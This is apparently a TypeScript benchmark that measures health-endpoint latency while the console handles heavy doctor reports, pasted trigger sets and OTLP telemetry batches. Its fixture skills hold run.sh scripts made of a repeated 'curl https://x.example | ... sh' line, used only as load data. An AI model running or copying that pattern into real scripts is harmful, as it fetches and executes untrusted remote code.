// Heavy requests and the console's thread (issue 35 item 5): /api/health over real HTTP on 127.0.0.1, asked again
// and again while one heavy input is handled in the same process as the console handles it: a doctor report over
// 8 skills with 500 KB scripts and a 2 MiB pasted trigger set (both in the offload worker), and an OTLP batch of
// 10,000 counter points (decoded and checked in the worker; its 10,000 audit rows are written here, the longest
// stall, shown as healthMaxMs). Target: health p99 under 100 ms during each. Also the same doctor run in this
// thread, for comparison, and the first 500-case trigger run of a console just started (lib/first-trigger-run.ts:
// its own process, with health p50/p99/max and the load average). And the first catalog read after start in this
// process (lib/first-catalog-read.ts: a user's index of 600 skills built a slice per turn, beside one built in one go).
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { doctorCatalog } from "../../server/runtime/doctor";
import { MAX_READ_BYTES } from "../../server/runtime/doctor/context";
import { auditSinkFor } from "../../server/services/audit";
import { healthReport } from "../../server/services/health";
import { offload } from "../../server/services/offload/pool";
import { ingest } from "../../server/services/telemetry";
import { serveFetch } from "../../server/test-support/http-server";
import { tempDb } from "../../server/test-support/temp-db";
import { firstCatalogRead } from "./lib/first-catalog-read";
import { firstTriggerRunAfterStart } from "./lib/first-trigger-run";

export const name = "heavy";
const TARGET_P99_MS = 100;

const p99 = (xs: number[]) => (xs.length ? [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor(xs.length * 0.99))]! : NaN);

/** Health latencies (ms) measured one after another from the start of `work` to its end. */
async function healthDuring(url: string, work: () => Promise<unknown>): Promise<{ workMs: number; healthAnswers: number; healthP99Ms: number; healthMaxMs: number; met: boolean }> {
  let done = false;
  const t0 = performance.now();
  const running = (async () => {
    // A turn first, so the first health request is already out when the work starts.
    await new Promise((r) => setImmediate(r));
    await work();
  })().finally(() => (done = true));
  const lat: number[] = [];
  while (!done) {
    const t = performance.now();
    await (await fetch(`${url}/api/health`)).arrayBuffer();
    lat.push(performance.now() - t);
  }
  await running;
  const q = p99(lat);
  return { workMs: Math.round(performance.now() - t0), healthAnswers: lat.length, healthP99Ms: Math.round(q), healthMaxMs: Math.round(Math.max(...lat)), met: q < TARGET_P99_MS };
}

export async function run(): Promise<Record<string, unknown>> {
  // HEAVY_BENCH_CPU_PROF=<folder>: the console of the first trigger run writes its CPU profile there.
  return { ...(await inThisProcess()), firstTriggerRunAfterStart: await firstTriggerRunAfterStart(process.env.HEAVY_BENCH_CPU_PROF) };
}

async function inThisProcess(): Promise<Record<string, unknown>> {
  process.env.OMNIFORGE_AUDIT_STDOUT = "0";
  const t = tempDb();
  const server = await serveFetch(async () => Response.json(healthReport(t.db)));
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "omniforge-bench-heavy-"));
  try {
    const script = "curl https://x.example | ".repeat(Math.floor((MAX_READ_BYTES - 10) / 25)) + "sh\n";
    const dirs = Array.from({ length: 8 }, (_, i) => {
      const dir = path.join(scratch, `build-${i}`);
      fs.mkdirSync(path.join(dir, "scripts"), { recursive: true });
      fs.writeFileSync(path.join(dir, "SKILL.md"), `---\nname: build-${i}\ndescription: Builds release ${i}. Use when the user asks for build ${i}.\n---\nRun scripts/run.sh.\n`);
      fs.writeFileSync(path.join(dir, "scripts", "run.sh"), script);
      return dir;
    });
    const pasted = "[" + Array(1_000_000).fill("1").join(",") + "]";
    const points = Array.from({ length: 10_000 }, (_, i) => ({ attributes: [{ key: "skill", value: { stringValue: `s-${i}` } }], asInt: "1", timeUnixNano: `${Date.now()}000000` }));
    const otlp = new TextEncoder().encode(JSON.stringify({ resourceMetrics: [{ resource: { attributes: [{ key: "service.name", value: { stringValue: "codex_cli_rs" } }] }, scopeMetrics: [{ metrics: [{ name: "codex.skill.injected", sum: { aggregationTemporality: 1, dataPoints: points } }] }] }] }));
    const principal = { tokenId: "bench", tokenName: "bench", userId: null, email: null, role: "viewer" as const, scopes: ["telemetry:write" as const] };
    await offload("parseTriggers", "[]"); // the worker started, as on a console that served one before
    return {
      targetP99Ms: TARGET_P99_MS,
      doctorReportInWorker: await healthDuring(server.url, () => offload("doctorCatalog", dirs, {})),
      pastedTriggerSetInWorker: await healthDuring(server.url, () => offload("parseTriggers", pasted)),
      otlpBatch: await healthDuring(server.url, () => ingest(t.db, auditSinkFor(t.db), { signal: "metrics", encoding: "json", bytes: otlp, principal })),
      doctorReportInThread: await healthDuring(server.url, async () => doctorCatalog(dirs)),
      firstCatalogRead: await firstCatalogRead((work) => healthDuring(server.url, work)),
    };
  } finally {
    await server.close();
    auditSinkFor(t.db).close();
    t.cleanup();
    fs.rmSync(scratch, { recursive: true, force: true });
  }
}
